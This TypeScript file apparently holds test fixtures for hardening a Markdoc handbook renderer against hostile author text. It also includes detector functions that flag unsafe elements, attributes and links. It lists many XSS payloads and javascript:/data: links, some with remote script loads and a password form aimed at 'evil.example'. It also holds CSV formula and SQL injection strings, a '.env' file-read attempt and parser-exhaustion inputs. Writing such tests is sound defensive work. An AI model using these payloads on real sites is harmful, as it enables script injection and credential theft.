/** One text that somebody with bad intent, or a bad copy, may put into a section. */
export type Hostile = {
  name: string
  source: string
  /** Whether its author must be told of it; the rest is harmless as the plain text it is. */
  refused: boolean
}

const RUN = 'window.__xss=1'

/** HTML is never read as such: all of it is text. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src=https://evil.example/x.js></script>`,
  `<script\u0009type="module">${RUN}</script>`,
  `<script/x>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</noscript><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<!--<img src="--><img src=x onerror=${RUN}>">`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}"//`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src="x\`" onerror=${RUN}>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<image src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x">`,
  `<svg><foreignObject><body onload=${RUN}></foreignObject></svg>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<body onload=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<frameset onload=${RUN}>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<applet code=x></applet>`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style>*{background:url(https://evil.example/x)}</style>`,
  `<p style="position:fixed;inset:0">x</p>`,
  `<div style="background:url(javascript:${RUN})">x</div>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java&#9;script:${RUN}">x</a>`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `<a href=x onmouseover=${RUN}>x</a>`,
  `<a onfocus=${RUN} autofocus tabindex=1>x</a>`,
  `<input onfocus=${RUN} autofocus>`,
  `<select onfocus=${RUN} autofocus></select>`,
  `<textarea onfocus=${RUN} autofocus></textarea>`,
  `<keygen onfocus=${RUN} autofocus>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<video poster=javascript:${RUN}></video>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<form action=https://evil.example><input name=password></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<isindex type=image src=x onerror=${RUN}>`,
  `<template><script>${RUN}</script></template>`,
  `<dialog open onclose=${RUN}>x</dialog>`,
  `<x onclick=${RUN}>x</x>`,
  `<p id=main class=button name=getElementById>x</p>`,
  `<a id=defaultView name=cookie>x</a>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `\`><img src=x onerror=${RUN}>`,
  `" autofocus onfocus="${RUN}`,
  `' onmouseover='${RUN}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `＜script＞${RUN}＜/script＞`,
  `\u202e<script>${RUN}</script>`,
  `<scr\u0131pt>${RUN}</scr\u0131pt>`,
  `<script >${RUN}</script >`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `__proto__`,
  `constructor[prototype]=x`,
  `\`<script>${RUN}</script>\``,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `    <script>${RUN}</script>`,
  `> <script>${RUN}</script>`,
  `- <img src=x onerror=${RUN}>`,
  `**<svg onload=${RUN}>**`,
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `'; DROP TABLE "Person"; --`,
  `(a+)+$ ${'a'.repeat(60)}!`,
  `NEAR( "unbalanced OR *`,
  `{% callout title="<script>${RUN}</script>" %}\n\nx\n\n{% /callout %}`,
  `{% callout title="x' onclick='${RUN}" %}\n\nx\n\n{% /callout %}`,
  `| a |\n| --- |\n| <img src=x onerror=${RUN}> |`,
] as const

/** Addresses that no link may have, whichever way it is written. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `\u0001javascript:${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg/onload=${RUN}>`,
  `file:///etc/passwd`,
  `blob:https://evil.example/x`,
  `view-source:https://evil.example`,
  `ftp://evil.example/x`,
  `//evil.example`,
  `/\\evil.example`,
  `\\\\evil.example\\x`,
  `/sign-out`,
  `../../sign-out`,
  `?next=//evil.example`,
  `handbook:../../sign-out`,
  `handbook:welcome?x=javascript:1`,
  `module:a/b/c/d`,
  `#"onclick=${RUN}`,
] as const

/** What Markdoc would do for an author who may program: nobody may here. */
const PROGRAMS = [
  '{% $user.passwordHash %}',
  'Hello {% $x %}',
  '{% $variables %}',
  '{% debug($x) %}',
  'a {% debug("x") %}',
  '{% equals(1, 1) %}',
  '{% callout title=$user %}\n\nx\n\n{% /callout %}',
  '{% callout title=debug($x) %}\n\nx\n\n{% /callout %}',
  '{% if true %}\n\nx\n\n{% /if %}',
  '{% if $x %}\n\nx\n\n{% else /%}\n\ny\n\n{% /if %}',
  '{% partial file="../../.env" /%}',
  '{% partial file="header.md" variables={a: 1} /%}',
  '{% iframe src="https://evil.example" /%}',
  '{% script %}\n\nx\n\n{% /script %}',
  '{% table %}\n- x\n{% /table %}',
  `{% cta href="javascript:${RUN}" /%}`,
  `{% callout onclick="${RUN}" %}\n\nx\n\n{% /callout %}`,
  '{% callout style="position:fixed" %}\n\nx\n\n{% /callout %}',
  '{% callout class="button" %}\n\nx\n\n{% /callout %}',
  `{% callout href="javascript:${RUN}" %}\n\nx\n\n{% /callout %}`,
  'Text {% .fixed .inset-0 %}',
  'Text {% #main %}',
  'Text {% class="button" %}',
  'Text {% id="search" %}',
  '### Heading {% .big %}',
  '- item {% .big %}',
  '**bold**{% .big %}',
  '{% example %}\n\nnever closed',
  '{% /example %}',
  '{% evidence ids=["nothing-of-that-name"] status="strong" %}x{% /evidence %}',
  '{% evidence ids=["enrich-trial-2022"] status="<script>" %}x{% /evidence %}',
  '{% evidence ids=$x status="strong" %}x{% /evidence %}',
  '{% evidence status="strong" %}x{% /evidence %}',
  '{% evidence ids=["constructor"] status="strong" %}x{% /evidence %}',
  '![x](https://evil.example/x.png)',
  `![x](javascript:${RUN})`,
  `![x](data:image/svg+xml,<svg/onload=${RUN}>)`,
  '## A heading of the page’s own',
  '# The page’s title',
  '#### Too deep at once',
  `{% reflection #r %}\n[x](javascript:${RUN})\n{% /reflection %}`,
  '{% reflection %}\nwithout an id\n{% /reflection %}',
  `{% check #q kind="<script>" %}\nx\n{% /check %}`,
] as const

/** Texts that take a parser very long, or very deep. */
export const SLOW: readonly Hostile[] = [
  ['101 tags on a line', '{% x %}'.repeat(101)],
  ['links of tags', '[{% x %}]('.repeat(100)],
  ['50,000 open tags', '{% '.repeat(50_000)],
  ['20,000 definitions', '[a]: x\n'.repeat(20_000)],
  ['5,000 nested braces', `{% x a=${'{b:'.repeat(5_000)}1${'}'.repeat(5_000)} %}`],
  ['5,000 nested arrays', `{% x a=${'['.repeat(5_000)}${']'.repeat(5_000)} %}`],
  ['a million characters', 'word '.repeat(200_000)],
].map(([name = '', source = '']) => ({ name, source, refused: true }))

export const HOSTILE: readonly Hostile[] = [
  ...MARKUP.map((source) => ({ name: source.slice(0, 60), source, refused: false })),
  ...ADDRESSES.map((address) => ({ name: `a link to ${address.slice(0, 50)}`, source: `[click](${address})`, refused: true })), // prettier-ignore
  ...ADDRESSES.slice(0, 10).map((address) => ({ name: `a definition of ${address.slice(0, 40)}`, source: `[click][x]\n\n[x]: ${address}`, refused: false })), // prettier-ignore
  ...PROGRAMS.map((source) => ({ name: source.slice(0, 60), source, refused: true })),
]

const ELEMENTS = new Set('p h1 h2 h3 h4 h5 h6 ul ol li strong em s a code pre blockquote table thead tbody tr th td div span sup small hr br dfn abbr'.split(' ')) // prettier-ignore
const ATTRIBUTES = new Set(['href', 'class', 'aria-label', 'tabindex', 'role', 'start', 'align', 'scope', 'data-language', 'title']) // prettier-ignore
const CLASSES = new Set(['example', 'supervision-question', 'callout', 'local-check', 'box-label', 'evidence-claim', 'table-scroll', 'activity', 'explained']) // prettier-ignore
const TAG = /<(\/?)([a-zA-Z!?][^\s/>]*)((?:"[^"]*"|'[^']*'|[^'">])*)>/g
const ATTRIBUTE = /([^\s=/"'<>]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?/g

/** What is wrong with compiled text of an author: an element, attribute, class or address that none of ours has. */
export function unsafeIn(html: string): string[] {
  return [...html.matchAll(TAG)].flatMap(([, end, element = '', rest = '']) => {
    const name = element.toLowerCase()
    if (!ELEMENTS.has(name)) return [`<${name}>`]
    return end ? [] : attributesOf(rest).flatMap(([attribute, value]) => wrongWith(attribute, value))
  })
}

/** The same of a whole document of ours with authors' text in it, which has elements and classes of its own. */
export function runningIn(html: string): string[] {
  return [...html.matchAll(TAG)].flatMap(([, , element = '', rest = '']) =>
    attributesOf(rest).flatMap(([attribute, value]) => [
      ...(/^on/i.test(attribute) ? [`${element} ${attribute}`] : []),
      ...(/^(?:href|src|action|formaction|data|srcdoc)$/i.test(attribute) && /^\s*(?:java|vb)script:|^\s*data:text|evil\.example/i.test(value) ? [`${attribute}=${value}`] : []), // prettier-ignore
    ]),
  )
}

function attributesOf(rest: string): [string, string][] {
  return [...rest.matchAll(ATTRIBUTE)].map(([, name = '', a, b, c]) => [name.toLowerCase(), a ?? b ?? c ?? ''])
}

function wrongWith(attribute: string, value: string): string[] {
  if (!ATTRIBUTES.has(attribute)) return [`attribute ${attribute}`]
  if (attribute === 'class') return value.split(' ').filter((name) => !CLASSES.has(name)).map((name) => `class ${name}`) // prettier-ignore
  if (attribute === 'href' && !/^(?:https?:\/\/|mailto:|tel:|sms:|#[a-z0-9-]+$|\/handbook\/|\/learn\/)/.test(value))
    return [`href ${value}`]
  return []
}
